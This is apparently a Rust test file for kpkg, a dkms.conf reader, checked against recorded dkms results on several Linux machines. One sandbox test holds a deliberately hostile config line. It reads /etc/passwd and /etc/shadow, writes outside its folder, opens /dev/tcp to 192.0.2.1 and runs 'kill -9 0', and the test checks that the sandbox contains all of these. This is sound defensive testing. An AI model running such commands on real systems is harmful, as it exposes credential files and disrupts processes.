//! Evaluation against recorded truth: what dkms itself read, and no value that is wrong without being called unknown.
//!
//! `KPKG_CORPUS=FOLDER` adds a larger collection in the same form: `FOLDER/dev/{conf,truth}`, `FOLDER/harness/{ktree,osr,matrix.tsv}`.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

use kpkg::driver::bash::ConfShell;
use kpkg::kernel::machine::{self, Machine};
use kpkg::output::Stop;
use serde_json::Value;

/// Release, architecture and os-release of the machines that the truth was recorded for.
const MACHINES: &[(&str, &str, &str)] = &[
    ("3.10.0-1160.el7.x86_64", "x86_64", "ID=\"centos\"\nID_LIKE=\"rhel fedora\"\nVERSION_ID=\"7\"\n"),
    ("5.14.0-503.11.1.el9_5.x86_64", "x86_64", "ID=\"rhel\"\nID_LIKE=\"fedora\"\nVERSION_ID=\"9.5\"\n"),
    ("6.1.0-49-amd64", "x86_64", "ID=debian\nVERSION_ID=\"12\"\nVERSION_CODENAME=bookworm\n"),
    ("6.12.9-200.fc41.aarch64", "aarch64", "ID=fedora\nVERSION_ID=41\n"),
    (
        "6.4.0-150600.23.25-default",
        "x86_64",
        "ID=\"opensuse-leap\"\nID_LIKE=\"suse opensuse\"\nVERSION_ID=\"15.6\"\n",
    ),
];

/// Values that cannot be known: they list the root or `/etc` of the machine, which nobody gave, are the version of bash, or depend on
/// whether the action of dkms that reads the file heeds `set -e`.
const UNKNOWN: &[&str] = &["cd", "glob_q", "glob_star", "lineno_vars", "set_e"];

#[derive(Debug, PartialEq, Eq, Clone, Copy, PartialOrd, Ord)]
enum Outcome {
    Same,
    /// Differs where kpkg says that it does not know.
    Unknown,
    /// Differs, and kpkg does not know that.
    Wrong,
}

/// The directives that kpkg reads, as the truth writes them: unknown is null.
fn read(path: &Path, machine: &Machine, shell: ConfShell) -> BTreeMap<String, Value> {
    let (evaluation, _) = kpkg::build::read_conf(path, machine, shell, &Stop::default()).unwrap();
    let object = serde_json::to_value(evaluation.to_schema()).unwrap();
    object.as_object().unwrap().clone().into_iter().collect()
}

fn compare(path: &Path, machine: &Machine, shell: ConfShell, truth: &Value) -> Outcome {
    let read = read(path, machine, shell);
    let mut outcome = Outcome::Same;
    for name in read.keys().chain(truth.as_object().unwrap().keys()) {
        let (got, want) = (read.get(name), truth.get(name));
        if got == want {
            continue;
        }
        let unknown = match got {
            Some(Value::Null) => true,
            Some(Value::Object(elements)) => {
                elements.iter().any(|(index, value)| {
                    // an element that is known has to be right even when others are not
                    value.is_null() && want.is_none_or(|want| want.get(index) != Some(value))
                }) && elements.iter().all(|(index, value)| {
                    value.is_null() || want.and_then(|want| want.get(index)) == Some(value)
                })
            }
            _ => false,
        };
        if !unknown {
            eprintln!("{} {name}: dkms {want:?}, kpkg {got:?}", path.display());
        }
        outcome = outcome.max(if unknown { Outcome::Unknown } else { Outcome::Wrong });
    }
    outcome
}

/// A small tree of headers for a kernel.
fn headers(folder: &Path, release: &str) -> PathBuf {
    let headers = folder.join(release);
    fs::create_dir_all(headers.join("include/config")).unwrap();
    fs::write(headers.join("Makefile"), "VERSION = 6\n").unwrap();
    fs::write(headers.join(".config"), "CONFIG_DRM=m\n").unwrap();
    fs::write(headers.join("include/config/auto.conf"), "CONFIG_DRM=m\n").unwrap();
    headers
}

#[test]
fn every_edge_of_the_language_is_read_as_dkms_reads_it() {
    let data = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/conf");
    let truth: Value = serde_json::from_str(&fs::read_to_string(data.join("truth.json")).unwrap()).unwrap();
    let folder = tempfile::tempdir().unwrap();
    let mut unknown = Vec::new();
    for (id, kernels) in truth.as_object().unwrap() {
        let mut worst = Outcome::Same;
        for (release, arch, os_release) in MACHINES {
            let os_file = folder.path().join("os-release");
            fs::write(&os_file, os_release).unwrap();
            let machine = machine(release, arch, headers(folder.path(), release), os_file);
            let want = kernels.get("*").or_else(|| kernels.get(release)).unwrap();
            worst = worst.max(compare(&data.join("synthetic").join(id), &machine, ConfShell::Own, want));
        }
        assert!(worst != Outcome::Wrong, "{id}");
        if worst == Outcome::Unknown {
            unknown.push(id.as_str());
        }
    }
    assert_eq!(unknown, UNKNOWN);
    assert_eq!(truth.as_object().unwrap().len(), fs::read_dir(data.join("synthetic")).unwrap().count());
}

/// bash itself, in the sandbox: it needs what `unshare` needs.
#[test]
fn bash_in_the_sandbox_reads_what_dkms_reads() {
    let data = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/conf");
    let truth: Value = serde_json::from_str(&fs::read_to_string(data.join("truth.json")).unwrap()).unwrap();
    let folder = tempfile::tempdir().unwrap();
    let os_file = folder.path().join("os-release");
    let (release, arch, os_release) = MACHINES[0];
    fs::write(&os_file, os_release).unwrap();
    let machine = machine(release, arch, headers(folder.path(), release), os_file);
    for (id, kernels) in truth.as_object().unwrap() {
        let path = data.join("synthetic").join(id);
        let want = kernels.get("*").or_else(|| kernels.get(release)).unwrap();
        match id.as_str() {
            // does not end
            "loop_inf" => {}
            // lists the root, which has other names here
            "glob_star" => assert!(read(&path, &machine, ConfShell::Bash)["MAKE"]["0"].is_string()),
            _ => assert_eq!(compare(&path, &machine, ConfShell::Bash, want), Outcome::Same, "{id}"),
        }
    }
    let hostile = folder.path().join("dkms.conf");
    let written = folder.path().join("written");
    let text = format!(
        "PACKAGE_NAME=x\nPACKAGE_VERSION=$(perl -e 'print 6 * 7')\nDEST_MODULE_LOCATION=/extra\n\
         echo x >{0}; echo x >/var/lib/dkms/x/written; mkdir -p /root/x\n\
         MAKE=\"$(ls {1} /etc/passwd /etc/shadow /home 2>/dev/null; {{ echo > /dev/tcp/192.0.2.1/80; }} 2>&1 | grep -o 'unreachable' | head -n 1)\"\n",
        written.display(),
        folder.path().display()
    );
    fs::write(&hostile, text).unwrap();
    let read_hostile = read(&hostile, &machine, ConfShell::Bash);
    assert_eq!(read_hostile["PACKAGE_VERSION"], "42");
    assert_eq!(read_hostile["MAKE"]["0"], "unreachable");
    assert!(!written.exists());
    // its caller's group is not the one of this test
    fs::write(&hostile, "kill -9 0\n").unwrap();
    let error = kpkg::build::read_conf(&hostile, &machine, ConfShell::Bash, &Stop::default()).unwrap_err();
    assert!(error.to_string().starts_with("bash ended by a signal"), "{error}");
}

fn machine(release: &str, arch: &str, headers: PathBuf, os_release: PathBuf) -> Machine {
    let options = machine::Stated {
        kernels: vec![release.to_owned()],
        headers: vec![headers],
        arch: Some(arch.to_owned()),
        processors: Some(4),
        // as the machine had that the truth was recorded on
        online_processors: Some(2),
        os_release: Some(os_release),
        dkms_version: None,
    };
    machine::machines(&options).unwrap().remove(0)
}

#[test]
fn a_collection_of_real_files_has_no_wrong_value() {
    let Some(folder) = std::env::var_os("KPKG_CORPUS").map(PathBuf::from) else {
        eprintln!("skipped: KPKG_CORPUS names no collection");
        return;
    };
    let matrix = fs::read_to_string(folder.join("harness/matrix.tsv")).unwrap();
    let (mut same, mut unknown, mut wrong) = (0, 0, Vec::new());
    for conf in fs::read_dir(folder.join("dev/conf")).unwrap() {
        let path = conf.unwrap().path();
        let id = path.file_name().unwrap().to_str().unwrap();
        let mut worst = Outcome::Same;
        for row in matrix.lines() {
            let row: Vec<_> = row.split('\t').collect();
            let [release, arch, _, os] = row.as_slice() else { panic!("a row of four columns") };
            let harness = folder.join("harness");
            let machine =
                machine(release, arch, harness.join("ktree").join(release), harness.join("osr").join(os));
            let truth = fs::read(folder.join(format!("dev/truth/{id}.{release}.json"))).unwrap();
            let truth: Value = serde_json::from_str(&String::from_utf8_lossy(&truth)).unwrap();
            worst = worst.max(compare(&path, &machine, ConfShell::Own, &truth["dkms"]));
        }
        match worst {
            Outcome::Same => same += 1,
            Outcome::Unknown => unknown += 1,
            Outcome::Wrong => wrong.push(id.to_owned()),
        }
    }
    eprintln!(
        "{same} files as dkms reads them, {unknown} with a value that is unknown, {} wrong",
        wrong.len()
    );
    assert!(wrong.is_empty(), "{wrong:?}");
    assert!(same > 0);
}
